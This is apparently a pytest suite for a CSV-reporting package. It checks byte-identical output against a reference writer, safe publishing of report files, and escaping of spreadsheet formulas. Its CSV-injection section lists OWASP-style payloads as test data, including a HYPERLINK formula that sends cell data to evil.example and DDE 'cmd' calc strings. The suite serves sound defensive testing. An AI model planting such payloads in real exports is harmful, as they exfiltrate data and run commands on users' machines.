"""``report._write_csv`` writes the same bytes as the plain one-call pyarrow writer it replaced."""

from __future__ import annotations

import csv
import dataclasses
import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sizecheck import report
from sizecheck.errors import SizecheckError


def _reference_write_csv(frame: pd.DataFrame, path: Path) -> Path:
    """The writer before pieces and dictionary columns (commit dbed4aa), kept as the oracle."""
    import pyarrow as pa
    import pyarrow.compute as pc
    import pyarrow.csv as pacsv

    arrays = []
    for name in frame.columns:
        col = frame[name]
        if isinstance(col.dtype, pd.CategoricalDtype) or col.dtype == object:
            arr = pa.array(col.astype("string"), type=pa.string(), from_pandas=True)
        else:
            arr = pa.array(col, from_pandas=True)
        if pa.types.is_timestamp(arr.type):
            arr = pc.cast(arr, pa.date32())
        arrays.append(arr)
    table = pa.Table.from_arrays(arrays, names=[str(c) for c in frame.columns])
    pacsv.write_csv(table, path, write_options=pacsv.WriteOptions(quoting_style="needed"))
    return path


def _awkward(n: int) -> pd.DataFrame:
    """Every kind of cell the outputs hold: NaN, ±inf, -0.0, dates and NaT, text with
    quotes, commas, line breaks and non-ASCII, empty text, missing text, categoricals with
    missing values and unused categories, object columns, integers."""
    rng = np.random.default_rng(3)
    texts = np.array(
        ["plain", 'with "quotes"', "a,b", "line\nbreak", "cr\r\nlf", "", "Ünïcödé", " sp "],
        dtype=object,
    )
    floats = rng.normal(0, 100, n)
    floats[rng.random(n) < 0.1] = np.nan
    floats[::97] = np.inf
    floats[1::101] = -np.inf
    floats[2::103] = -0.0
    floats[3::107] = 1e-7
    floats[4::109] = 1.1 - 1.0
    dates = pd.to_datetime("2025-01-01") + pd.to_timedelta(rng.integers(0, 400, n), unit="D")
    dates = pd.Series(dates).where(rng.random(n) > 0.05)
    text = pd.Series(texts[rng.integers(0, len(texts), n)], dtype="str")
    text = text.where(rng.random(n) > 0.1)
    cat = pd.Categorical(
        texts[rng.integers(0, len(texts), n)], categories=[*sorted(set(texts)), "unused"]
    )
    cat[rng.random(n) < 0.1] = np.nan
    return pd.DataFrame(
        {
            "text": text,
            "row": np.arange(n, dtype=np.int64) + 2,
            "value": floats,
            "rounded": np.round(rng.normal(250, 10, n), 1),
            "date": dates,
            "cat": cat,
            "num_cat": pd.Categorical(rng.choice([36.0, 36.5, 41.0], n)),
            "obj": pd.Series(texts[rng.integers(0, len(texts), n)], dtype=object),
            "flag": rng.random(n) < 0.5,
            "count": rng.integers(-5, 5, n),
        }
    )


@pytest.mark.parametrize("n", [0, 1, 1000])
def test_same_bytes_small(tmp_path: Path, n: int) -> None:
    frame = _awkward(max(n, 1)).iloc[:n]
    new = report._write_csv(frame, tmp_path / "new.csv")
    old = _reference_write_csv(frame, tmp_path / "old.csv")
    assert new.read_bytes() == old.read_bytes()


def test_same_bytes_in_pieces(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # small pieces, so that many are formatted in threads and joined in order
    monkeypatch.setattr(report, "_CSV_CHUNK_ROWS", 777)
    frame = _awkward(20_000)
    new = report._write_csv(frame, tmp_path / "new.csv")
    old = _reference_write_csv(frame, tmp_path / "old.csv")
    data = new.read_bytes()
    assert data == old.read_bytes()
    assert data.count(b'"text"') == 1  # one header
    assert b'"with ""quotes"""' in data and b"inf" in data and b"-0" in data


def test_decimals_round_only_the_columns_named(tmp_path: Path) -> None:
    frame = _awkward(5000)
    out = report._write_csv(frame, tmp_path / "new.csv", decimals={"value": 2})
    expected = frame.assign(value=np.round(frame["value"].to_numpy(), 2) + 0.0)
    old = _reference_write_csv(expected, tmp_path / "old.csv")
    assert out.read_bytes() == old.read_bytes()  # NaN and inf survive rounding
    assert b",-0," not in out.read_bytes()  # -0.0 and -0.001 are written 0
    assert b",-0," in report._write_csv(frame, tmp_path / "raw.csv").read_bytes()
    finite = pd.read_csv(out)["value"].replace([np.inf, -np.inf], np.nan).dropna()
    assert len(finite) > 4000 and (finite == np.round(finite, 2)).all()


def test_columns_order_and_missing(tmp_path: Path) -> None:
    frame = _awkward(10)
    out = report._write_csv(frame, tmp_path / "x.csv", ["date", "text"])
    header = out.read_bytes().split(b"\n", 1)[0]
    assert header == b'"date","text"'  # the columns given, and only those
    with pytest.raises(report.UsageError, match="missing column"):
        report._write_csv(frame, tmp_path / "y.csv", ["nope"])


def test_example_outputs_same_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from sizecheck.examples import example_path
    from sizecheck.pipeline import analyse

    analysis = analyse([example_path()])
    monkeypatch.setattr(report, "_CSV_CHUNK_ROWS", 100)
    for name, frame in (
        ("deviations", analysis.deviations),
        ("rejects", analysis.rejects),
        ("producer_summary", analysis.producer_summary),
        ("size_summary", analysis.size_summary),
        ("comparison", analysis.comparison),
    ):
        assert len(frame), name
        new = report._write_csv(frame, tmp_path / f"{name}-new.csv")
        old = _reference_write_csv(frame, tmp_path / f"{name}-old.csv")
        assert new.read_bytes() == old.read_bytes(), name
    # what write_report writes: the contract columns, derived ones to 6 decimals
    report.write_report(analysis, tmp_path / "out", charts=False)
    rounded = analysis.deviations.loc[:, list(report.OUTPUT_FILES["deviations.csv"])].copy()
    for col in (
        "value_mm",
        "nominal_mm",
        "deviation_mm",
        "deviation_sizes",
        "lower_mm",
        "upper_mm",
    ):
        rounded[col] = np.round(rounded[col].to_numpy(), 6) + 0.0
    old = _reference_write_csv(rounded, tmp_path / "deviations-old.csv")
    assert (tmp_path / "out" / "deviations.csv").read_bytes() == old.read_bytes()


def test_early_deviations_same_file_and_nothing_left(tmp_path: Path) -> None:
    """deviations.csv written in a thread while the statistics run (what `measure` does)
    is byte for byte the one write_report writes itself; no temporary file remains."""
    from sizecheck.examples import example_path
    from sizecheck.pipeline import analyse

    inputs = [example_path()]
    plain = analyse(inputs)
    report.write_report(plain, tmp_path / "plain", charts=False)
    with report.EarlyDeviations(tmp_path / "early", inputs) as early:
        analysis = analyse(inputs, on_compared=early)
        assert early.started
        report.write_report(analysis, tmp_path / "early", charts=False, early=early)
    names = sorted(p.name for p in (tmp_path / "early").iterdir())
    assert names == sorted(p.name for p in (tmp_path / "plain").iterdir())
    for name in names:
        if name not in ("summary.json", "summary.xlsx"):  # they hold the time of the run
            assert (tmp_path / "early" / name).read_bytes() == (
                tmp_path / "plain" / name
            ).read_bytes()


def test_early_deviations_failure_leaves_previous_run(tmp_path: Path) -> None:
    """When the run fails after the deviations were handed over, the folder keeps the
    previous run's files, unmixed, and no partial file."""
    from sizecheck.examples import example_path
    from sizecheck.pipeline import analyse

    inputs = [example_path()]
    out = tmp_path / "out"
    report.write_report(analyse(inputs), out, charts=False)
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    def then_fail(deviations: pd.DataFrame) -> None:
        early(deviations)
        raise RuntimeError("statistics failed")

    with (
        pytest.raises(RuntimeError, match="statistics failed"),
        report.EarlyDeviations(out, inputs) as early,
    ):
        analyse(inputs, on_compared=then_fail)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_choose_deviations_format_at_the_spreadsheet_limit() -> None:
    """auto: CSV up to 1,048,575 data rows (Excel's 1,048,576 rows less the header, from
    Microsoft's "Excel specifications and limits"), Parquet from one more; csv and
    parquet as named whatever the length; anything else refused."""
    limit = 1_048_576 - 1
    assert limit == report.SPREADSHEET_ROWS
    at = report.choose_deviations_format("auto", limit)
    assert (at.format, at.name, at.reason) == ("csv", "deviations.csv", "fits_spreadsheet")
    over = report.choose_deviations_format("auto", limit + 1)
    assert (over.format, over.reason) == ("parquet", "too_many_rows")
    assert over.name == "deviations.parquet"
    assert report.choose_deviations_format("csv", limit + 1).format == "csv"
    assert report.choose_deviations_format("parquet", 3).format == "parquet"
    with pytest.raises(report.UsageError, match="auto, csv, parquet"):
        report.choose_deviations_format("xlsx", 3)


def test_early_deviations_auto_chooses_from_the_rows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """EarlyDeviations chooses when the deviations arrive, and write_report publishes that
    file with the choice in summary.json."""
    from sizecheck.examples import example_path
    from sizecheck.pipeline import analyse

    inputs = [example_path()]
    monkeypatch.setattr(report, "SPREADSHEET_ROWS", 5)
    out = tmp_path / "out"
    with report.EarlyDeviations(out, inputs) as early:
        assert early.choice is None
        analysis = analyse(inputs, on_compared=early)
        assert early.choice is not None and early.choice.name == "deviations.parquet"
        report.write_report(analysis, out, charts=False, early=early)
    assert (out / "deviations.parquet").exists() and not (out / "deviations.csv").exists()
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["deviations"]["rows"] == len(analysis.deviations)
    assert summary["deviations"]["reason"] == "too_many_rows"


def test_early_deviations_checks_out_before_work(tmp_path: Path) -> None:
    taken = tmp_path / "file.txt"
    taken.write_text("x")
    with pytest.raises(report.UsageError, match="is a file"):
        report.EarlyDeviations(taken, [])
    data = tmp_path / "deviations.csv"  # an input named like an output, in --out
    data.write_text("producer,size\n")
    with pytest.raises(report.UsageError, match="never overwrites"):
        report.EarlyDeviations(tmp_path, [data])


def test_early_deviations_failure_while_drawing_leaves_previous_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run that fails while drawing charts publishes nothing: the folder keeps the
    previous run's files byte for byte (issue 18: it once left new CSVs beside the old
    summary.json, with the old report deleted), and no staging folder or lock."""
    from sizecheck.examples import example_path
    from sizecheck.pipeline import analyse

    out = tmp_path / "out"
    inputs = [example_path()]
    previous = analyse(inputs)  # a previous run that differs from this one
    previous = dataclasses.replace(previous, producer_summary=previous.producer_summary[:3])
    report.write_report(previous, out, charts=False)
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    def broken(*args: object, **kwargs: object) -> list[Path]:
        raise RuntimeError("chart failed")

    monkeypatch.setattr(report, "_stage_visuals", broken)
    with (
        pytest.raises(RuntimeError, match="chart failed"),
        report.EarlyDeviations(out, inputs) as early,
    ):
        analysis = analyse(inputs, on_compared=early)
        report.write_report(analysis, out, charts=True, early=early)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_early_deviations_failed_run_leaves_no_new_folder(tmp_path: Path) -> None:
    from sizecheck.examples import example_path
    from sizecheck.pipeline import analyse

    out = tmp_path / "new"
    with pytest.raises(SizecheckError), report.EarlyDeviations(out, []) as early:
        analyse([example_path()], on_compared=early, drift_rules=["bogus"])
    assert not out.exists()


# --------------------------------------------------------------------------- CSV injection

#: Producer names and cells a spreadsheet would run as formulas (OWASP's examples and
#: issue 18's), and texts that only look like them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\tTab",
    "\rCR",
]
LOOK_ALIKES = ["-5", "+3,5", "-0.25", "UD Maju-Jaya", " =spaced", "", "plain"]


def _cells(path: Path) -> list[list[str]]:
    """Every row of a CSV as a spreadsheet's CSV import splits it (Python's csv module)."""
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_formulas_are_escaped_in_text_cells_numbers_untouched(tmp_path: Path) -> None:
    from sizecheck.escaping import formula_safe

    texts = FORMULAS + LOOK_ALIKES
    n = len(texts)
    frame = pd.DataFrame(
        {
            "text": pd.Series(texts, dtype="str"),
            "obj": pd.Series(texts, dtype=object),
            "cat": pd.Categorical(texts),
            "value": np.linspace(-5.5, 5.5, n),
            "count": np.arange(n) - 5,
            "=name": 1,
        }
    )
    rows = _cells(report._write_csv(frame, tmp_path / "x.csv"))
    assert rows[0] == ["text", "obj", "cat", "value", "count", "'=name"]
    for row, text, value, count in zip(
        rows[1:], texts, frame["value"], frame["count"], strict=True
    ):
        assert row[:3] == [formula_safe(text)] * 3
        assert float(row[3]) == value and int(row[4]) == count  # negative numbers stay
    escaped = [r[0] for r in rows[1:] if r[0].startswith("'")]
    assert escaped == ["'" + f for f in FORMULAS]  # and nothing else


@given(st.lists(st.text(alphabet="=+-@\t\r 0123456789.,eEaZ'|\"(", max_size=8), max_size=40))
@settings(max_examples=200, deadline=None)
def test_vectorised_escaping_equals_the_function(texts: list[str]) -> None:
    import pyarrow as pa

    from sizecheck.escaping import formula_safe

    expected = [*map(formula_safe, texts), None]
    for kind in (pa.string(), pa.large_string()):
        arr = pa.array([*texts, None], type=kind)
        assert report._formula_safe_arrow(arr).to_pylist() == expected
        chunked = pa.chunked_array([arr[: len(texts) // 2], arr[len(texts) // 2 :]])
        assert report._formula_safe_arrow(chunked).to_pylist() == expected


def test_measure_writes_no_runnable_cell(tmp_path: Path) -> None:
    """Issue 18: hostile producer names were written raw into 94 CSV cells."""
    from typer.testing import CliRunner

    from sizecheck.cli import app
    from sizecheck.escaping import NUMBER_PATTERN

    rng = np.random.default_rng(1)
    lines = []
    for producer in FORMULAS[:5]:
        for size in range(38, 44):
            for _ in range(3):
                value = round(size * 20 / 3 + rng.normal(0, 1.0), 1)
                lines.append([producer, str(size), str(value), "=sampel", "-"])
    data = tmp_path / "qa.csv"
    with data.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["produsen", "ukuran", "panjang insole (mm)", "no", "keterangan"])
        writer.writerows(lines)
        writer.writerow(["@SUM(A1)", "41", "=2+5", "x", ""])  # a rejected formula cell
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["measure", str(data), "--no-charts", "--out", str(out)])
    assert result.exit_code == 0, result.output
    number = re.compile(NUMBER_PATTERN)
    runnable = [
        (path.name, cell)
        for path in sorted(out.glob("*.csv"))
        for row in _cells(path)
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not number.fullmatch(cell)
    ]
    assert runnable == []
    names = {r[3] for r in _cells(out / "deviations.csv")[1:]}
    assert names == {"'" + f for f in FORMULAS[:5]}  # shown, not run
    assert any(r[3] == "'=2+5" for r in _cells(out / "rejects.csv"))


@given(
    st.text(alphabet=st.characters(max_codepoint=0x2070), max_size=30),
    st.sampled_from(["", "\n", "\t\n\r", "\u202e"]),
)
@settings(max_examples=300, deadline=None)
def test_visible_controls_shows_every_control_but_the_kept_ones(text: str, keep: str) -> None:
    import unicodedata

    from sizecheck.escaping import BIDI_CONTROLS, visible_controls

    # independent: Unicode's category Cc is C0, DEL and C1 (unicodedata, not our table)
    def shown(c: str) -> str:
        if c in keep or (unicodedata.category(c) != "Cc" and c not in BIDI_CONTROLS):
            return c
        return f"[U+{ord(c):04X}]"

    assert visible_controls(text, keep=keep) == "".join(map(shown, text))
